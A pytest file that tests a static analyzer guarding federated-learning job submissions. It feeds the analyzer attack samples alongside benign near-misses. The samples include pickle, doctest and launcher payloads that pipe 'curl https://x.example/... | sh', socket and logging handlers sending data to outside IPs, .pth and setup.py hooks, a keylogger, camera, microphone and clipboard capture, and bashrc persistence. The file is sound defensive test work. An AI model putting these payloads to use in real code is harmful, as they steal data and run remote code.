"""Attacks of issue 12's classes that the path, config, notebook and file detectors now catch, each
written as FL training code an adversary who read the gate would ship; and, beside them, the
legitimate idioms nearest to them, which no rule of these classes may flag."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from analyzer import api
from analyzer.engine.collect import collect, from_bytes

POLICY = api.load_policy()

CLIENT = """\
import nvflare.client as flare
import torch
from model import Net

def train(model, loader):
    for x, y in loader:
        loss = torch.nn.functional.cross_entropy(model(x), y)
        loss.backward()

flare.init()
while flare.is_running():
    incoming = flare.receive()
    model = Net()
    model.load_state_dict(incoming.params)
    flare.send(flare.FLModel(params=model.state_dict()))
"""


def scan(code: str, name: str = "train.py"):
    return api.analyze(from_bytes(name, code.encode(), POLICY.limits), POLICY)


def scan_job(tmp_path: Path, files: dict[str, str | bytes], client_config: dict | None = None):
    root = tmp_path / "job"
    for rel, data in files.items():
        p = root / "app" / "custom" / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data.encode() if isinstance(data, str) else data)
    config = root / "app" / "config" / "config_fed_client.json"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(json.dumps(client_config or {"format_version": 2, "executors": []}))
    (root / "meta.json").write_text(json.dumps({"name": "j", "deploy_map": {"app": ["@ALL"]}}))
    return api.analyze(collect(root, POLICY.limits), POLICY)


def rules(report) -> set[str]:
    return {f.rule for f in report.findings}


def launcher(script: str, args: str = "") -> dict:
    return {"format_version": 2, "executors": [{"tasks": ["train"], "executor": {
        "path": "nvflare.app_opt.pt.in_process_client_api_executor.PTInProcessClientAPIExecutor",
        "args": {"task_script_path": script, "task_script_args": args}}}]}


# -- files written where the path classifier did not look ------------------------------------------

WRITES = {
    "object store": "import pandas as pd\ndf = pd.read_csv('/data/site/train.csv')\n"
                    "df.to_parquet('s3://fl-metrics-cache/site1/train.parquet')\n",
    "fsspec chain": "import fsspec, pandas as pd\nrows = pd.read_csv('/data/site/train.csv').to_csv()\n"
                    "with fsspec.open('simplecache::gs://bucket/rows.csv', 'w') as f:\n    f.write(rows)\n",
    "lustre": "import numpy as np\nfeats = np.load('/data/site/features.npy')\nnp.save('/lustre/proj/shared/feats.npy', feats)\n",
    "gpfs checkpoint": "import torch\ntorch.save({'rows': torch.load('/data/t.pt', weights_only=True)}, '/gpfs/alpine/x/c.pt')\n",
    "chdir then relative": "import os, shutil\nos.chdir('/scratch/team')\nshutil.copy('/data/site/labels.csv', 'labels.csv')\n",
    "UNC share": "import shutil\nshutil.copytree('/data/site', r'\\\\nas01\\drop\\site1')\n",
}


@pytest.mark.parametrize("code", WRITES.values(), ids=WRITES.keys())
def test_writes_to_shared_storage_reject(code: str) -> None:
    assert scan(code).decision.value == "reject", rules(scan(code))


def test_argparse_default_on_a_mount_rejects() -> None:
    code = ("import argparse, torch\np = argparse.ArgumentParser()\np.add_argument('--out-dir', default='/mnt/nfs/exp')\n"
            "args = p.parse_args()\ntorch.save({'x': 1}, args.out_dir + '/model.pt')\n")
    assert "file-exfiltration.write-network" in rules(scan(code))


def test_config_passing_a_bucket_to_the_script_escalates(tmp_path: Path) -> None:
    train = "import argparse, torch\np = argparse.ArgumentParser()\np.add_argument('--out')\nargs = p.parse_args()\n" \
            "torch.save({'x': 1}, args.out)\n"
    report = scan_job(tmp_path, {"train.py": train}, launcher("train.py", "--out s3://bucket/site1/model.pt"))
    assert "config-attack.argument-network-path" in rules(report)
    assert report.decision.value != "accept"


def test_writing_into_the_sites_own_config_folder_is_caught() -> None:
    code = ("import json, os\nclass Tamper:\n    def run(self, fl_ctx):\n"
            "        ws = fl_ctx.get_engine().get_workspace()\n"
            "        with open(os.path.join(ws.get_site_config_dir(), 'job_resources.json'), 'w') as f:\n"
            "            json.dump({'components': []}, f)\n")
    assert "file-exfiltration.write-outside" in rules(scan(code))


def test_reader_fetching_a_url_with_data_in_the_query_rejects() -> None:
    code = ("import pandas as pd\nrow = pd.read_csv('/data/site/train.csv').iloc[0]\n"
            "pd.read_json(f'https://metrics.x.example/v1/p?mean={row.mean()}&site=1')\n")
    assert scan(code).decision.value == "reject"


BENIGN_WRITES = {
    "relative": "import torch\ntorch.save({'w': 1}, 'outputs/model.pt')\n",
    "script folder": "import os, json\nos.chdir(os.path.dirname(os.path.abspath(__file__)))\n"
                     "json.dump({'acc': 0.9}, open('metrics.json', 'w'))\n",
    "tempfile": "import tempfile, os, numpy as np\nd = tempfile.mkdtemp()\nnp.save(os.path.join(d, 'x.npy'), np.ones(3))\n",
    "argparse local default": "import argparse, torch\np = argparse.ArgumentParser()\n"
                              "p.add_argument('--out', default='outputs')\nargs = p.parse_args()\n"
                              "torch.save({'w': 1}, args.out + '/m.pt')\n",
    "app dir": "import os, numpy as np\nclass P:\n    def save(self, fl_ctx, w):\n"
               "        d = fl_ctx.get_engine().get_workspace().get_app_dir(fl_ctx.get_job_id())\n"
               "        os.chdir(d)\n        np.save('w.npy', w)\n",
    "read from a mount": "import pandas as pd\ndf = pd.read_parquet('/lustre/datasets/site1/train.parquet')\n",
    "torch weights named .pth": "import torch\ntorch.save({'w': 1}, 'cifar_net.pth')\n",
    "local multi-gpu": "import os, torch.distributed as dist\nos.environ['MASTER_ADDR'] = 'localhost'\n"
                       "os.environ['MASTER_PORT'] = '12355'\ndist.init_process_group('nccl', init_method='env://')\n",
}


@pytest.mark.parametrize("code", BENIGN_WRITES.values(), ids=BENIGN_WRITES.keys())
def test_nearest_legitimate_idioms_raise_no_finding(code: str) -> None:
    """No threat or capability rule fires; whether the catalogue lists every API used is its own question."""
    report = scan(code)
    assert not [f for f in report.findings if f.category != "unvouched"], report.findings
    assert report.decision.value != "reject"


# -- channels no list named ----------------------------------------------------------------------

def test_logging_config_shipped_with_the_job_that_ships_records(tmp_path: Path) -> None:
    log_conf = ("[loggers]\nkeys=root\n[handlers]\nkeys=net\n[formatters]\nkeys=\n[logger_root]\nlevel=INFO\n"
                "handlers=net\n[handler_net]\nclass=handlers.SocketHandler\nargs=('203.0.113.9', 9020)\n")
    train = "import logging.config\nlogging.config.fileConfig('logging.conf')\nlogging.info('rows=%s', open('/data/x').read())\n"
    report = scan_job(tmp_path, {"train.py": train, "logging.conf": log_conf})
    assert "config-attack.logging-config-network" in rules(report) and report.decision.value == "reject"


def test_rendezvous_with_a_remote_host_from_the_config(tmp_path: Path) -> None:
    config = {"format_version": 2, "executors": [], "components": [{
        "id": "launcher", "path": "nvflare.app_common.launchers.subprocess_launcher.SubprocessLauncher",
        "args": {"script": "torchrun --nnodes 2 --node_rank 1 --master_addr 198.51.100.23 custom/train.py"}}]}
    report = scan_job(tmp_path, {"train.py": CLIENT}, config)
    assert "config-attack.rendezvous-remote" in rules(report) and report.decision.value == "reject"


# -- code run from text the gate did not parse as Python -------------------------------------------

def test_pickle_without_extension_or_magic(tmp_path: Path) -> None:
    report = scan_job(tmp_path, {"train.py": "import pickle\ncfg = pickle.load(open('defaults', 'rb'))\n",
                                 "defaults": b"cos\nsystem\n(S'curl -s https://x.example/i | sh'\ntR."})
    assert "files.pickle-dangerous" in rules(report) and report.decision.value == "reject"


def test_pth_hook_shipped_with_the_job(tmp_path: Path) -> None:
    report = scan_job(tmp_path, {"train.py": CLIENT, "speedups.pth": "import os; os.system('id')\n"})
    assert "files.pth-hook" in rules(report) and report.decision.value == "reject"


def test_python_under_a_text_name_is_analysed_as_python(tmp_path: Path) -> None:
    helper = "import socket\ns = socket.create_connection(('203.0.113.9', 443))\ns.sendall(open('/data/x').read().encode())\n"
    train = "import runpy\nrunpy.run_path('helpers.txt')\n"
    report = scan_job(tmp_path, {"train.py": train, "helpers.txt": helper})
    assert "files.python-without-extension" in rules(report)
    assert any(f.path.endswith("helpers.txt") and f.category == "network" for f in report.findings)


def test_launcher_running_a_file_without_py_extension(tmp_path: Path) -> None:
    config = {"format_version": 2, "executors": [], "components": [{
        "id": "launcher", "path": "nvflare.app_common.launchers.subprocess_launcher.SubprocessLauncher",
        "args": {"script": "python3 -u custom/train"}}]}
    report = scan_job(tmp_path, {"train": "import os\nos.system('curl -s https://x.example/x | sh')\n"}, config)
    assert "config-attack.launcher-unnamed-python" in rules(report) and report.decision.value == "reject"


def test_write_then_import_rejects() -> None:
    code = ("import importlib, sys, base64\nsrc = base64.b64decode(open('assets/tpl.b64').read())\n"
            "open('fl_ext.py', 'wb').write(src)\nsys.path.insert(0, '.')\nimportlib.import_module('fl_ext')\n")
    assert "dynamic-code.write-then-import" in rules(scan(code))


def test_expression_strings_from_files_escalate() -> None:
    code = "import pandas as pd\ndf = pd.read_csv('/data/x.csv')\nrule = open('filter.txt').read()\ndf = df.query(rule)\n"
    assert scan(code).decision.value != "accept"


# -- config and notebook routes ----------------------------------------------------------------------

def test_requirements_with_an_extra_index_escalate(tmp_path: Path) -> None:
    report = scan_job(tmp_path, {"train.py": CLIENT, "requirements.txt": "--extra-index-url https://pkgs.x.example/simple\n"
                                                                          "torch==2.3.0\n"})
    assert "supply-chain.requirements-source" in rules(report) and report.decision.value != "accept"


def test_setup_py_build_hook_rejects(tmp_path: Path) -> None:
    setup = ("from setuptools import setup\nfrom setuptools.command.develop import develop\n"
             "class D(develop):\n    def run(self):\n        import os; os.system('id')\n"
             "setup(name='fl', cmdclass={'develop': D})\n")
    report = scan_job(tmp_path, {"train.py": CLIENT, "setup.py": setup})
    assert "supply-chain.setup-hook" in rules(report) and report.decision.value == "reject"


def test_component_switched_to_unpickling(tmp_path: Path) -> None:
    config = {"format_version": 2, "executors": [], "components": [{
        "id": "persistor", "path": "nvflare.app_opt.pt.file_model_persistor.PTFileModelPersistor",
        "args": {"source_ckpt_file_full_name": "/models/init.pt", "load_weights_only": False}}]}
    report = scan_job(tmp_path, {"train.py": CLIENT}, config)
    assert "config-attack.component-unsafe-load" in rules(report) and report.decision.value != "accept"


# -- malware families ------------------------------------------------------------------------------------

FAMILIES = {
    "screen": "from PIL import ImageGrab\nimport io\nbuf = io.BytesIO()\nImageGrab.grab().save(buf, 'PNG')\n",
    "clipboard": "import pyperclip\nmeta = {'note': pyperclip.paste()}\n",
    "keylogger": "from pynput import keyboard\nkeys = []\nkeyboard.Listener(on_press=keys.append).start()\n",
    "camera": "import cv2\ncap = cv2.VideoCapture(0)\nok, frame = cap.read()\n",
    "microphone": "import sounddevice as sd\naudio = sd.rec(16000 * 3, samplerate=16000, channels=1)\n",
    "bashrc": "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('python3 ~/.cache/agent.py &\\n')\n",
    "site-packages .pth": "import site, os\nopen(os.path.join(site.getusersitepackages(), 'x.pth'), 'w').write('import agent')\n",
    "dropper": "import os, stat, urllib.request\nurllib.request.urlretrieve('https://x.example/a', '/tmp/.a')\n"
               "os.chmod('/tmp/.a', stat.S_IRWXU)\n",
    "pyarmor": "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')\n",
    "code object": "import marshal, types\nrun = types.FunctionType(marshal.loads(open('w.bin', 'rb').read()), {})\nrun()\n",
    "shortener": "import torch\nsd = torch.hub.load_state_dict_from_url('https://bit.ly/3xyzabc', weights_only=True)\n",
}


@pytest.mark.parametrize("code", FAMILIES.values(), ids=FAMILIES.keys())
def test_malware_families_reject(code: str) -> None:
    report = scan(code)
    assert report.decision.value == "reject", rules(report)


def test_video_file_reader_is_not_a_camera() -> None:
    code = "import cv2\ndef frames(path):\n    cap = cv2.VideoCapture(path)\n    return cap.read()\nframes('/data/v/a.mp4')\n"
    assert "surveillance.camera" not in rules(scan(code))


def test_readme_of_a_torch_job_is_prose_not_code(tmp_path: Path) -> None:
    readme = "# Job\nCall `model.eval()` before validation; the script does `import os` and\n" \
             "`os.path.join`. Example:\n\n    >>> import os\n    >>> os.system('nvidia-smi')\n"
    report = scan_job(tmp_path, {"train.py": CLIENT + "model.eval()\n", "README.md": readme})
    assert not {r for r in rules(report) if r.startswith(("dynamic-code", "subprocess"))}, rules(report)


def test_doctest_examples_run_by_the_job_are_analysed(tmp_path: Path) -> None:
    checks = "Checks\n\n    >>> import os\n    >>> _ = os.system('curl -fsS https://x.example/b.sh | sh')\n"
    train = "import doctest, os\ndoctest.testfile(os.path.join(os.path.dirname(__file__), 'checks.txt'), module_relative=False)\n"
    report = scan_job(tmp_path, {"train.py": train, "checks.txt": checks})
    assert any(f.path.endswith("checks.txt") and f.rule == "subprocess.shell" for f in report.findings)
    assert report.decision.value == "reject"
